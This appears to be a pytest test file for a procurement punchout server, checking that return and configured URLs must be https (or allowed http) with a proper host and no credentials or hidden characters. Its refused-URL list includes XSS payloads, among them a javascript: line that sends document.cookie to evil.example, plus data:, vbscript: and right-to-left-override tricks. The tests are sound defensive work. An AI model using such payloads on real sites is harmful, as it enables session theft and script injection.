"""The URLs the server writes where a browser follows them: the buyer's BrowserFormPost URL (the
cart form's action), and the server's own addresses (the StartPage redirect to the storefront,
the StartPage, setup and ProfileResponse URLs). One rule judges them all (domain/urls.py): https,
http only where allowed, a host, no user name or password, no space or control character.

Through a real `opsportal serve`, with our own cXML documents, on SQLite and PostgreSQL."""

from __future__ import annotations

from pathlib import Path

import pytest

from opsportal.config import ConfigError, Settings
from testkit.command import opsportal
from tests.live_shop import Shop, server_database_url, server_problems, shop
from tests.storefront_helpers import ADD, line, read_form

ALLOW_HTTP = "OPSPORTAL_ALLOW_HTTP_BUYER_URLS"
# (as the XML holds it, what is wrong), refused at setup whatever the settings.
REFUSED = [
    ("javascript:fetch('https://evil.example/?c='+document.cookie)", "javascript:"),
    ("JavaScript:alert(1)", "javascript: in capitals"),
    ("java&#9;script:alert(1)", "a tab inside the scheme (browsers drop it)"),
    ("data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;", "data:"),
    ("vbscript:msgbox(1)", "vbscript:"),
    ("//evil.example/return", "no scheme: the page's own would be used"),
    ("/punchout/return", "a path, no host"),
    ("https:evil.example/return", "https without // and host"),
    ("https:///return", "https without a host"),
    ("https://user:secret@buyer.example/return", "a user name and password"),
    ("ftp://buyer.example/return", "ftp:"),
    ("https://buyer.example/re turn", "a space"),
    ("https://buyer.example/&#8238;nruter", "an invisible right-to-left override"),
]
HTTP_URL = "http://procure.buyer.lan:1616/punchoutexit"


@pytest.fixture(params=["sqlite", "postgres"])
def server_database(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    return server_database_url(request, tmp_path, "return_urls")


async def _refused(found: Shop, url: str) -> str:
    answer = await found.setup(url, escaped=True)
    assert (answer.http_status, answer.code) == (200, 400), (url, answer.message)
    assert answer.start_url is None
    answer.assert_valid()
    return answer.message


async def test_only_https_return_urls_open_a_session(server_database: str) -> None:
    async with shop(server_database) as found:
        for url, why in REFUSED:
            message = await _refused(found, url)
            assert message.startswith("BrowserFormPost URL "), (why, message)
        # http only where the setting allows it: by default, not.
        message = await _refused(found, HTTP_URL)
        assert message.startswith(f'BrowserFormPost URL "{HTTP_URL}"'), message
        assert "https" in message
        # What is allowed: https, with a port, a query, an escaped & (trimmed as before).
        credential = await found.open(" https://buyer.example:8443/r?a=1&b=2 ")
        await found.graphql(ADD, {"input": line()}, credential)
        transfer = (await found.transfer(credential))["data"]["transferPunchoutCart"]
        assert transfer["errors"] == []
        assert transfer["transfer"]["url"] == "https://buyer.example:8443/r?a=1&b=2"
        assert read_form(transfer["transfer"]["formHtml"]).action == transfer["transfer"]["url"]
        assert server_problems(found) == []


async def test_http_where_the_setting_allows_it_and_the_transfer_checks_again(
    server_database: str,
) -> None:
    async with shop(server_database, **{ALLOW_HTTP: "1"}) as found:
        for url, why in REFUSED:  # the setting allows http, nothing else
            assert (await _refused(found, url)).startswith("BrowserFormPost URL "), why
        posted = await found.open(HTTP_URL)
        kept = await found.open(HTTP_URL)
        await found.graphql(ADD, {"input": line()}, kept)
        transfer = (await found.transfer(posted))["data"]["transferPunchoutCart"]
        assert read_form(transfer["transfer"]["formHtml"]).action == HTTP_URL

        # The setting turned off since the session began: the cart is not posted over http,
        # and the session stays open with its cart.
        await found.restart(**{ALLOW_HTTP: ""})
        body = await found.transfer(kept)
        payload = body["data"]["transferPunchoutCart"]
        assert payload["transfer"] is None
        assert [e["code"] for e in payload["errors"]] == ["RETURN_URL_REFUSED"]
        assert "BrowserFormPost URL" in payload["errors"][0]["message"]
        cart = await found.cart(kept)
        assert cart is not None and len(cart["lines"]) == 1
        assert server_problems(found) == []


async def test_a_session_stored_before_the_rule_is_not_posted(server_database: str) -> None:
    async with shop(server_database) as found:
        credential = await found.open()
        await found.graphql(ADD, {"input": line()}, credential)
        # A session a setup opened before BrowserFormPost URLs were judged.
        hostile = "javascript:fetch('https://evil.example/?c='+document.cookie)"
        assert found.write("UPDATE punchout_session SET browser_form_post = ?", hostile) == 1
        body = await found.transfer(credential)
        payload = body["data"]["transferPunchoutCart"]
        assert payload["transfer"] is None, payload
        assert [e["code"] for e in payload["errors"]] == ["RETURN_URL_REFUSED"]
        assert "javascript" not in str(body)  # not even echoed to the storefront
        cart = await found.cart(credential)  # the session goes on, with its cart
        assert cart is not None and len(cart["lines"]) == 1
        assert server_problems(found) == []


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("OPSPORTAL_STOREFRONT_URL", "javascript:alert(1)"),
        ("OPSPORTAL_STOREFRONT_URL", "https://shop example.com/"),
        ("OPSPORTAL_STOREFRONT_URL", "https://user:pw@shop.example.com/"),
        ("OPSPORTAL_STOREFRONT_URL", "https://shop.example.com/#start"),  # #session= goes there
        ("OPSPORTAL_STOREFRONT_URL", "https:///storefront"),
        ("OPSPORTAL_PUBLIC_URL", "http://"),
        ("OPSPORTAL_PUBLIC_URL", "https://punchout.example.com/?x=1"),  # /cxml is appended
        ("OPSPORTAL_PUBLIC_URL", "data:text/html,hi"),
    ],
)
def test_the_servers_own_urls_are_judged_at_start(
    tmp_path: Path, variable: str, value: str
) -> None:
    with pytest.raises(ConfigError, match=variable):
        Settings.from_env({variable: value})
    done = opsportal(tmp_path, "serve", "--port", "1", env={variable: value})
    assert done.returncode == 2
    assert done.stderr.strip().splitlines()[-1].startswith(f"opsportal: {variable}=")


def test_the_servers_own_urls_may_be_http() -> None:
    """They are the operator's own: a local run is http (the README's quick start)."""
    settings = Settings.from_env(
        {"OPSPORTAL_PUBLIC_URL": "http://127.0.0.1:8000", "OPSPORTAL_STOREFRONT_URL": ""}
    )
    assert settings.storefront == "http://127.0.0.1:8000/storefront"
    assert settings.allow_http_buyer_urls is False
    for on in ("1", "true", "yes", "on", "TRUE"):
        assert Settings.from_env({ALLOW_HTTP: on}).allow_http_buyer_urls is True
    for off in ("0", "false", "no", "off", ""):
        assert Settings.from_env({ALLOW_HTTP: off}).allow_http_buyer_urls is False
    with pytest.raises(ConfigError, match=ALLOW_HTTP):
        Settings.from_env({ALLOW_HTTP: "maybe"})
